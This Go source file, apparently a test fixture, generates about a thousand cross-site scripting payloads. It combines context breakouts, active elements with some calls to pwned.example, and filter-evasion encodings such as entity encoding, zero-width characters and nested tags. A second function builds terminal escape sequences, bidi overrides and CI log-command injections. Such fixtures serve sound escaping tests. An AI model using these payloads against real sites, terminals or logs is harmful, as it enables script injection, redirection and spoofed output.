package main

import (
	"encoding/json"
	"fmt"
	"strings"
)

// payloads are a thousand texts that would act where they land unescaped: each way out of a place, times each thing that
// acts, times ways to write it that filters have let pass. pwned is in all of them.
func payloads() []string {
	ways := []string{
		"", `"`, `'`, `>`, `">`, `'>`, `"/>`, "</title>", "</script>", "</style>", "</textarea>", "-->", "--!>", "]]>", "</p>", "</a>", "</time>", "*/", "`", `\"`, `\u003c/script>`,
		"&#34;>", "%22%3E", `"}]}`, `;`, `,`, "\nEND:VEVENT\nBEGIN:VALARM\n", "{{", "}}", "${", "\nX-PWNED:1\n", `" onfocus=pwned autofocus x="`,
	}
	acts := []string{
		"<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<iframe src=javascript:pwned()></iframe>", "<a href=javascript:pwned()>x</a>",
		"<body onload=pwned()>", "<base href=//pwned.example>", `<meta http-equiv=refresh content="0;url=//pwned.example">`, "<form action=//pwned.example><button>x</button></form>",
		"<object data=//pwned.example></object>", "<link rel=stylesheet href=//pwned.example>", "<style>@import'//pwned.example'</style>", "<details open ontoggle=pwned()>",
		"<math><mtext></math><script>pwned()</script>", "<!--<script>pwned()", "javascript:pwned()", " onmouseover=pwned() ", " style=background:url(//pwned.example) ",
	}
	disguises := []func(string) string{
		func(s string) string { return s },
		strings.ToUpper,
		func(s string) string {
			return strings.NewReplacer("<s", "<\u200bs", "javascript", "java&Tab;script").Replace(s)
		},
		func(s string) string { return strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(s) },
		func(s string) string {
			return strings.NewReplacer("<", "&#x3c;", "javascript:", "&#106;avascript&colon;").Replace(s)
		},
		func(s string) string { return strings.NewReplacer("<", "%3C", ">", "%3E").Replace(s) },
		func(s string) string {
			return strings.NewReplacer("<script", "<scr<script>ipt", "javascript", "jAvAsCrIpT").Replace(s)
		},
		func(s string) string { return strings.NewReplacer("<", "\uff1c", " ", "/").Replace(s) },
		func(s string) string { return strings.NewReplacer("<", `\u003c`, ">", `\x3e`).Replace(s) },
	}
	var list []string
	for i := 0; len(list) < 1000; i++ { // steps without a common factor meet all pairs
		way, act, disguise := ways[i%len(ways)], acts[i/2%len(acts)], disguises[i/5%len(disguises)]
		list = append(list, fmt.Sprintf("Ord%d %s%s", i, way, disguise(act)))
	}
	return list
}

// hostile are payloads that act on terminals, logs and lists of findings rather than in browsers.
func hostile() []string {
	var list []string
	for _, begin := range []string{
		"\x1b[2J", "\x1b]0;pwned\x07", "\x1b]8;;https://pwned.example\x1b\\", "\x1bP$q\x1b\\", "\x1bc", "\u009b31m", "\u009d0;pwned\u009c", "\x07", "\x08\x08\x08", "\r", "\x0b", "\x0c", "\x7f", "\x00",
		"\u202e", "\u2066", "\u200f", "\u2028", "\u2029", "\u0085", "\ufeff", "\u200b", "\U000e0041", "\ufff9", "::error file=a,line=1::", "##[error]", "%0A::stop-commands::x", "\"}\n{\"file\":\"", "\xff\xfe", "\xc2", "\xed\xa0\x80",
	} {
		list = append(list, begin+"pwned", "pwned "+begin, "<b>"+begin+"</b>")
	}
	return list
}

// quoted is a text as YAML and JSON have it.
func quoted(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return strings.ReplaceAll(strings.ReplaceAll(string(b), `\u2028`, `\L`), `\u2029`, `\P`)
}
